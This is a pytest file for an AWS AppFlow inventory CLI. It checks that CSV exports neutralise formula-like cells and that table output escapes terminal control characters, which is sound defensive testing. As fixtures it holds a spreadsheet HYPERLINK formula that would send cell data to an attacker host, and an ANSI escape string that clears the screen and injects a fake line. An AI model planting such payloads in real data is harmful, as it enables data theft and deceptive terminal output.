"""What AWS sends cannot become a spreadsheet formula or drive the terminal that shows it.

Profile names may start with `=`, `+`, `-` or `@` (AppFlow's name pattern allows them), and
AWS's free-text fields (a private connection's failure message) have no limit at all.
"""

from __future__ import annotations

import csv
import io
import random

import pytest

from collector.simulator import (
    PROFILES,
    Organization,
    Simulator,
    generate_organization,
    make_profile,
)

from ..support import Cli

REGIONS = ("us-east-1",)
FORMULA_NAMES = ("=1+2", "+1-1", "-2+3", "@SUM")
FAILURE = '=HYPERLINK("http://attacker.example/?"&A1,"details")'
# A connector type outside today's enum passes botocore unvalidated, as AWS sends it.
HOSTILE_TYPE = "Slack\x1b[2J\x1b]0;owned\x07\nFAKE"


@pytest.fixture
def org() -> Organization:
    organization = generate_organization(
        seed=9, accounts=1, empty_fraction=1.0, profiles_per_scope=(1, 1), regions=REGIONS
    )
    account = organization.account_list()[0].id
    rng = random.Random(1)
    for name in FORMULA_NAMES:
        organization.put(
            PROFILES, account, "us-east-1", make_profile("Slack", name, account, "us-east-1", rng)
        )
    organization.put(
        PROFILES,
        account,
        "us-east-1",
        make_profile(
            "Snowflake",
            "private-wh",
            account,
            "us-east-1",
            rng,
            connectionMode="Private",
            privateConnectionProvisioningState={
                "status": "FAILED",
                "failureCause": "INTERNAL_SERVER",
                "failureMessage": FAILURE,
            },
        ),
    )
    organization.put(
        PROFILES,
        account,
        "us-east-1",
        make_profile("Slack", "odd-type", account, "us-east-1", rng, connectorType=HOSTILE_TYPE),
    )
    return organization


@pytest.fixture
def url(sim: Simulator, cli: Cli, tmp_path_factory: pytest.TempPathFactory) -> str:
    database = f"sqlite:///{tmp_path_factory.mktemp('safety') / 'inventory.db'}"
    result = cli.collect(database, sim, REGIONS)
    assert result.code == 0, result.err
    return database


def _cells(text: str, column: str) -> set[str]:
    return {row[column] for row in csv.DictReader(io.StringIO(text))}


@pytest.mark.parametrize("command", [["export", "--format", "csv"], ["show", "--format", "csv"]])
def test_csv_cells_that_would_be_formulas_get_a_quote(
    command: list[str], url: str, cli: Cli
) -> None:
    """A CSV cell starting with = + - @ (or tab, CR) is written with a leading '."""
    result = cli.run([*command, "--database-url", url])
    assert result.code == 0, result.err
    names = _cells(result.out, "connector_profile_name")
    assert {"'" + name for name in FORMULA_NAMES} <= names
    assert not names & set(FORMULA_NAMES)
    if command[0] == "export":
        assert "'" + FAILURE in _cells(result.out, "private_connection_failure_message")


def test_csv_raw_writes_cells_as_stored(url: str, cli: Cli) -> None:
    """`--csv-raw` turns the neutralization off: every cell exactly as stored."""
    result = cli.run(["export", "--format", "csv", "--csv-raw", "--database-url", url])
    assert result.code == 0, result.err
    assert set(FORMULA_NAMES) <= _cells(result.out, "connector_profile_name")
    assert FAILURE in _cells(result.out, "private_connection_failure_message")


def test_json_keeps_values_as_stored(url: str, cli: Cli) -> None:
    """JSON output is not neutralized: JSON is no spreadsheet, and it escapes controls itself."""
    result = cli.run(["export", "--database-url", url])
    assert all(f'"connector_profile_name": "{name}"' in result.out for name in FORMULA_NAMES)
    assert "\x1b" not in result.out


def test_table_cells_escape_control_characters(url: str, cli: Cli) -> None:
    """A table shows control characters as escapes: no escape sequence, no extra line."""
    result = cli.run(["show", "--database-url", url])
    assert result.code == 0, result.err
    assert "\x1b" not in result.out
    assert "\x07" not in result.out
    assert "Slack\\x1b[2J\\x1b]0;owned\\x07\\nFAKE" in result.out
    assert not any(line.startswith("FAKE") for line in result.out.splitlines())
    assert len(result.out.splitlines()) == 1 + len(FORMULA_NAMES) + 2
